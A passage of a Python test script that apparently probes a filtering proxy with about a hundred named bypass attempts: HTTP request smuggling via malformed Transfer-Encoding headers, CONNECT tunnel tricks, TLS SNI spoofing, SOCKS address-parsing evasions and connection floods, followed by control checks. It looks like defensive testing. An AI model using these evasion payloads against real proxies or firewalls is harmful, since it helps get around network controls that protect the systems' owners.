'0\r\n\r\n')), ('another coding', lambda: smuggle('Transfer-Encoding: identity\r\n')), ('a hidden coding', lambda: smuggle('Transfer-Encoding: xchunked\r\n', '0\r\n\r\n')), ('a coding with a space', lambda: smuggle('Transfer-Encoding : chunked\r\n', '0\r\n\r\n')), ('a coding with a tab', lambda: smuggle('Transfer-Encoding:\x0bchunked\r\n', '0\r\n\r\n')), ('chunks of old http', lambda: smuggle('Transfer-Encoding: chunked\r\n', f'{len(HIDDEN):x}\r\n{HIDDEN}\r\n0\r\n\r\n', version='1.0', then='')), ('a line feed in a chunk', lambda: smuggle('Transfer-Encoding: chunked\r\n', f'0\n\n', then=HIDDEN)), ('a line feed after a size', lambda: smuggle('Transfer-Encoding: chunked\r\n', f'2\r\nab\r\n0\r\nX: y\n\r\n', then=HIDDEN)), ('a size with an end in it', lambda: smuggle('Transfer-Encoding: chunked\r\n', '0;\n\r\n', then=HIDDEN)), ('a size with a lone return', lambda: smuggle('Transfer-Encoding: chunked\r\n', f'{len(HIDDEN):x}\rx\n', then=HIDDEN)), ('a size with a sign', lambda: smuggle('Transfer-Encoding: chunked\r\n', f'+0\r\n\r\n', then=HIDDEN)), ('a size too large', lambda: smuggle('Transfer-Encoding: chunked\r\n', 'ffffffffffffffff0\r\n\r\n', then=HIDDEN)), ('length named a hop', lambda: smuggle('Connection: content-length\r\nContent-Length: 3\r\n', 'abc')), ('host named a hop', lambda: smuggle(f'Connection: host\r\nX: {GRANTED}\r\n')),
 ('upgrade', lambda: smuggle('Connection: upgrade\r\nUpgrade: websocket\r\n', method='GET', wait=0.2)), ('upgrade to h2c', lambda: smuggle('Connection: upgrade, http2-settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n', method='GET', wait=0.2)), ('expect', lambda: smuggle('Expect: 100-continue\r\nContent-Length: 0\r\n', wait=0.2)), ('trace', lambda: smuggle('Max-Forwards: 0\r\n', method='TRACE')), ('connect as a path', lambda: smuggle(method='CONNECT')), ('http 0.9', lambda: exchange(f'GET http://{U}/\r\n\r\n')), ('http 2', lambda: exchange(b'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n' + b'\0\0\0\4\0\0\0\0\0')), ('tls to the proxy', lambda: exchange(record(hello(sni(HOST.encode()))))), ('byte by byte', threads_race),
 # tunnels
 ('tunnel', lambda: connect(U)), ('tunnel without a port', lambda: connect(HOST)), ('tunnel to port 0', lambda: connect(f'{HOST}:0')), ('tunnel to two', lambda: connect(f'{GRANTED} {U}')), ('tunnel to a list', lambda: connect(f'{GRANTED},{U}')), ('tunnel with a zero byte', lambda: connect(f'{U}\0{GRANTED}')), ('tunnel with a user', lambda: connect(f'{GHOST}@{U}')), ('tunnel to a path', lambda: connect(f'{U}/x')), ('tunnel to an address with a scheme', lambda: connect(f'http://{U}')), ('tunnel, host of another', lambda: connect(U, host=GRANTED)), ('tunnel in small letters', lambda: connect(U, method='connect')), ('tunnel in a tunnel', lambda: tunnel(f'CONNECT {U} HTTP/1.1\r\nHost: {U}\r\n{A}\r\n'.encode(), tag())), ('tunnel after a refusal', lambda: exchange(f'CONNECT {U} HTTP/1.1\r\nHost: {U}\r\n{A}\r\n', f'CONNECT {U} HTTP/1.1\r\nHost: {U}\r\n{A}\r\n', wait=0.1)), ('tunnel with a length', lambda: connect(U, more='Content-Length: 5\r\n')), ('tunnel to v6', lambda: connect(U6)), ('tunnel to mapped', lambda: connect(f'[::ffff:7f00:2]:{PORT}')), ('tunnel to short', lambda: connect(f'127.2:{PORT}')), ('tunnel with dots', lambda: connect(f'{HOST}...:{PORT}')), ('old http tunnel', lambda: exchange(f'CONNECT {U} HTTP/1.0\r\n{A}\r\n')),
 # the name in TLS
 ('another name', lambda: tunnel(record(hello(EVIL_NAME)))), ('another name, byte by byte', lambda: tunnel(*chunks(record(hello(EVIL_NAME)), 1))), ('another name in pieces', lambda: tunnel(*chunks(record(hello(EVIL_NAME)), 9), wait=0.02)), ('another name in small records', lambda: tunnel(b''.join(record(piece) for piece in chunks(hello(EVIL_NAME), 5)))), ('both names', lambda: tunnel(record(hello(sni(GHOST.encode()) + EVIL_NAME)))), ('both names in one list', lambda: tunnel(record(hello(extension(0, struct.pack('>H', 2 * 3 + len(GHOST) + len(EVIL)) + b'\0' + struct.pack('>H', len(GHOST)) + GHOST.encode() + b'\0' + struct.pack('>H', len(EVIL)) + EVIL.encode()))))), ('a name of another kind', lambda: tunnel(record(hello(sni(EVIL.encode(), 1))))), ('a name behind a zero byte', lambda: tunnel(record(hello(sni(GHOST.encode() + b'\0.' + EVIL.encode()))))), ('an empty record first', lambda: tunnel(record(b'') + record(hello(EVIL_NAME)))), ('an alert first', lambda: tunnel(b'\x15\3\1\0\2\1\0' + record(hello(EVIL_NAME)))), ('a cipher change first', lambda: tunnel(b'\x14\3\1\0\1\1' + record(hello(EVIL_NAME)))), ('another version', lambda: tunnel(record(hello(EVIL_NAME), b'\3\4'))), ('a huge message', lambda: tunnel(b''.join(record(piece) for piece in chunks(hello(extension(21, b'\0' * 40000) + EVIL_NAME), 16000)))), ('a name behind much else', lambda: tunnel(record(hello(extension(0x2a2a, b'') + extension(21, b'\0' * 9000) + EVIL_NAME)))), ('half a message', lambda: tunnel(record(hello(EVIL_NAME))[:-3])), ('with early data', lambda: exchange(f'CONNECT {GRANTED} HTTP/1.1\r\nHost: {GRANTED}\r\n{A}\r\n'.encode() + record(hello(EVIL_NAME)))), ('another name over socks', lambda: socks(four(GHOST), GPORT, after=record(hello(EVIL_NAME)))), ('with the real library', lambda: tls(EVIL)),
 # socks
 ('socks', lambda: socks(four(HOST))), ('socks by name', lambda: socks(name(HOST))), ('socks, short', lambda: socks(name('127.2'))), ('socks, decimal', lambda: socks(name('2130706434'))), ('socks, localhost', lambda: socks(name('localhost'))), ('socks, dots', lambda: socks(name(HOST + '..'))), ('socks, brackets', lambda: socks(name('[::ffff:127.0.0.2]'))), ('socks, port in the name', lambda: socks(name(f'{HOST}:{PORT}#'))), ('socks v6', lambda: socks(six('::1'), PORT6)), ('socks mapped', lambda: socks(six('::ffff:127.0.0.2'))), ('socks translated', lambda: socks(six('64:ff9b::7f00:2'))), ('socks any', lambda: socks(four('0.0.0.0'))), ('socks zero byte', lambda: socks(name(GHOST.encode() + b'\0' + HOST.encode()))), ('socks empty name', lambda: socks(name(b''))), ('socks long name', lambda: socks(name(b'a' * 255))), ('socks not text', lambda: socks(name(b'\xff\xfe'))), ('socks bind', lambda: socks(four(HOST), command=2)), ('socks datagrams', lambda: socks(four(HOST), command=3)), ('socks resolve', lambda: socks(name(EVIL), command=0xf0)), ('socks type 0', lambda: socks(b'\0' + socket.inet_aton(HOST))), ('socks type 2', lambda: socks(b'\2' + socket.inet_aton(HOST))), ('socks reserved', lambda: socks(four(HOST), reserved=1)), ('socks wrong password', lambda: socks(four(GHOST), GPORT, password='x', after=EVIL.encode())), ('socks no password', lambda: socks(four(GHOST), GPORT, methods=b'\1\0', after=EVIL.encode())), ('socks skips the password', lambda: exchange(b'\5\2\0\2', b'\5\1\0' + four(GHOST) + struct.pack('>H', GPORT), EVIL)), ('socks kerberos', lambda: socks(four(GHOST), GPORT, methods=b'\1\1', after=EVIL.encode())), ('socks 4', lambda: exchange(b'\4\1' + struct.pack('>H', PORT) + socket.inet_aton(HOST) + b'trimtab\0')), ('socks 4a', lambda: exchange(b'\4\1' + struct.pack('>H', PORT) + b'\0\0\0\1trimtab\0' + HOST.encode() + b'\0')), ('socks twice', lambda: socks(four(GHOST), GPORT, after=b'\5\1\0' + four(HOST) + struct.pack('>H', PORT))),
 # many at once, other commands, and later
 ('half-open requests', lambda: flood(200, b'GET http://')), ('half-open greetings', lambda: flood(200, b'\5')), ('silent connections', lambda: flood(200, b'')),
 ('another command connects', lambda: relay(f'direct {HOST} {PORT}')), ('another command asks the proxy', lambda: relay(f'proxy {HOST} {PORT}')), ('another command asks for what is granted here', lambda: relay(f'proxy {GHOST} {GPORT} {EVIL}')), ('another command listens for the host', lambda: relay(f'listen {HOST} {PORT}')),
 ('later, in the background', lambda: later(1.0, False)), ('later, detached', lambda: later(1.5, True)),
]
def tls(host):
    s = socket.create_connection(P, 4); s.sendall(f'CONNECT {GRANTED} HTTP/1.1\r\nHost: {GRANTED}\r\n{A}\r\n'.encode()); s.recv(4096)
    context = ssl.create_default_context(); context.check_hostname = False; context.verify_mode = ssl.CERT_NONE
    context.wrap_socket(s, server_hostname=host)

def attempt(row):
    local.name, act = row
    start = time.monotonic()
    try: act()
    except (OSError, ValueError, subprocess.SubprocessError, ssl.SSLError): pass
    except Exception as error: print('BROKEN', local.name, repr(error), flush=True)
    if time.monotonic() - start > 6: print('slow', local.name, round(time.monotonic() - start), flush=True)

local.name = 'control'
controls = [b' 302 ' in get(GRANTED), b' 200 ' in connect(GRANTED, b'GET / HTTP/1.1\r\n\r\n'), b'Location' in socks(four(GHOST), GPORT, after=b'GET / HTTP/1.1\r\n\r\n'),
            b'Location' in tunnel(record(hello(sni(GHOST.encode())))), b'403' in get(U), relay('hello').startswith(b'hello')]
print('controls', all(controls), controls, flush=True)
assert len({title for title, _ in attempts}) == len(attempts), 'a title stands twice'
slow = [row for row in attempts if row[0].startswith(('half-open', 'silent', 'later'))]
with concurrent.futures.ThreadPoolExecutor(24) as pool: list(pool.map(attempt, [row for row in attempts if row not in slow]))
for row in slow: attempt(row)
local.name = 'control'
print('still serves', b' 302 ' in get(GRANTED), flush=True)
print('tried', len(attempts), flush=True)
